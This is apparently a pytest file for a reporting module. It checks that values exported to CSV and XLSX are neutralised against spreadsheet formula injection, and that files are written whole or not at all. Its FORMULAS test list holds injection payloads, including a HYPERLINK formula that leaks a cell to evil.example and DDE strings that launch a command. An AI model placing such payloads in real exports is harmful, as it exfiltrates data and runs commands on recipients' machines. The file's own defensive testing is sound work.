"""Tables and files of a run: cells no spreadsheet runs, files that appear whole or not at all."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from openpyxl import load_workbook
from report_cases import listing, random_records, record

from s2r.errors import StoreError
from s2r.models import Claim, Record, Route, Status
from s2r.report.files import MAX_CELL, whole, write_csv, write_json, write_jsonl, write_records, write_xlsx
from s2r.report.tables import COLUMNS, QUEUE_COLUMNS, queue_row, record_header, record_row, safe_cell

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\x00=1+1",
    "\x1b=1+1",
]
PLAIN = ["", "Marrow & Vale plc", "005930", "NA", "TRUE", "'tis", "1e10", "2020-12-31", "北京银行", "Groupe «=»", "a=b", "株式会社－"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text: str) -> None:
    """A cell that a spreadsheet would run starts with an apostrophe."""
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    """Names, numbers with leading zeros and words like NA survive unchanged."""
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_field_of_a_record_reaches_a_table_as_a_formula(text: str) -> None:
    """Every text field of a row, and the name of a carried-through column, is made safe in both tables."""
    hostile = listing(1, issuer=text, security=text, ticker=text, mic=text, isin=text, extra={text: text})
    claim = Claim(field="status", value="yes", quote=text, exhibit="sha256:00", url=text, start=0, end=1)
    one = record(of=hostile, claims=(claim,), route_reasons=(text,), conflicts=(text,), error=text, route=Route.REVIEW, policy=text)
    for cells in (record_row(one, [text]), queue_row(one), record_header([text])):
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"))]
        assert not [cell for cell in cells if cell.startswith(("\t", "\r", "\n"))]


def test_rows_fit_their_heads() -> None:
    """Each row has as many cells as its head has names."""
    one = record(of=listing(1, extra={"desk": "7"}))
    assert len(record_row(one, ["desk"])) == len(record_header(["desk"]))
    assert len(queue_row(one)) == len(QUEUE_COLUMNS)


def test_universe_column_with_our_name_does_not_shadow_ours() -> None:
    """A universe that brings its own column "status" cannot overwrite the answer in a table read by column name."""
    one = record(of=listing(1, extra={"status": "delisted", "desk": "7"}), status=Status.NO)
    named = dict(zip(record_header(["desk", "status"]), record_row(one, ["desk", "status"]), strict=True))
    assert (named["status"], named["universe.status"], named["desk"]) == ("no", "delisted", "7")
    assert len(set(record_header(["desk", *COLUMNS]))) == 1 + 2 * len(COLUMNS)


def test_files_of_a_run_agree_with_its_records(tmp_path: Path) -> None:
    """JSON lines give the same records back, the CSV has them in order, the queue is the same in both forms."""
    records = random_records(40, 2)
    assert write_records(tmp_path, lambda: iter(records)) == 40
    lines = (tmp_path / "records.jsonl").read_text("utf-8").splitlines()
    assert [Record.model_validate_json(line) for line in lines] == records
    with (tmp_path / "records.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [row["row_id"] for row in rows] == [r.row_id for r in records]
    assert [row["announcement_date"] for row in rows] == [str(r.announcement_date or "") for r in records]
    with (tmp_path / "review_queue.csv").open(encoding="utf-8-sig", newline="") as fh:
        queue = list(csv.reader(fh))
    sheet = load_workbook(tmp_path / "review_queue.xlsx")["review queue"]
    assert [[str(c.value or "") for c in row] for row in sheet.iter_rows()] == queue
    waiting = sorted((r.confidence, r.row_id) for r in records if r.route is not Route.ACCEPT)
    assert [line[0] for line in queue[1:]] == [row_id for _, row_id in waiting]
    assert {path.name for path in tmp_path.iterdir()} == {"records.jsonl", "records.csv", "review_queue.csv", "review_queue.xlsx"}


def test_xlsx_cells_are_text(tmp_path: Path) -> None:
    """Formulas, numbers, dates and truth words are strings in the workbook, and nothing is a formula."""
    values = [*FORMULAS, "007", "2020-12-31", "TRUE", "1e10", "#REF!", "x\x0by", "\ufffe", "\x85"]
    path = tmp_path / "t.xlsx"
    write_xlsx(path, "t", ["a"], ([safe_cell(value)] for value in values))
    cells = [row[0] for row in load_workbook(path)["t"].iter_rows(min_row=2)]
    assert len(cells) == len(values)
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if cell.value[:1] in "=+-@"] == []


def test_too_long_cell_says_that_it_is_cut(tmp_path: Path) -> None:
    """What the format cannot hold is cut, and the cell says so."""
    path = tmp_path / "t.xlsx"
    write_xlsx(path, "t", ["a"], [["x" * (MAX_CELL + 1)]])
    value = load_workbook(path)["t"]["A2"].value
    assert len(value) == MAX_CELL
    assert value.endswith("the JSON lines have it whole]")


def test_failed_write_leaves_the_old_file_and_no_rest(tmp_path: Path) -> None:
    """When rows fail half-way, the file of before is untouched and nothing half-written remains."""
    path = tmp_path / "records.csv"
    write_csv(path, ["a"], [["old"]])
    before = path.read_bytes()

    def rows() -> list[list[str]]:
        raise ValueError("row 2")

    def failing() -> object:
        yield ["new"]
        yield from rows()

    with pytest.raises(ValueError, match="row 2"):
        write_csv(path, ["a"], failing())  # type: ignore[arg-type]
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["records.csv"]


def test_file_appears_only_when_it_is_whole(tmp_path: Path) -> None:
    """While a file is being written, nothing stands at its path."""
    path = tmp_path / "deep" / "run.json"
    with whole(path) as fh:
        fh.write(b"{}")
        assert not path.exists()
    assert path.read_bytes() == b"{}"


def test_unwritable_folder_is_a_store_error(tmp_path: Path) -> None:
    """A folder that takes no files gives a StoreError that names the file and says what to do."""
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o500)
    blocked = folder if not os.access(folder, os.W_OK) else tmp_path / "file"  # root may write anywhere: use a file as folder
    if blocked.name == "file":
        blocked.write_text("not a folder")
    for write in (
        lambda p: write_json(p, {}),
        lambda p: write_jsonl(p, []),
        lambda p: write_csv(p, ["a"], []),
        lambda p: write_xlsx(p, "t", ["a"], []),
    ):
        with pytest.raises(StoreError, match="cannot be written") as caught:
            write(blocked / "x.json")
        assert str(blocked) in caught.value.subject
        assert "--out" in caught.value.advice


def test_json_keeps_every_script(tmp_path: Path) -> None:
    """JSON is written as UTF-8 text, not as escapes."""
    write_json(tmp_path / "run.json", {"issuer": "みなせ光学工業"})
    text = (tmp_path / "run.json").read_text("utf-8")
    assert "みなせ光学工業" in text
    assert json.loads(text) == {"issuer": "みなせ光学工業"}
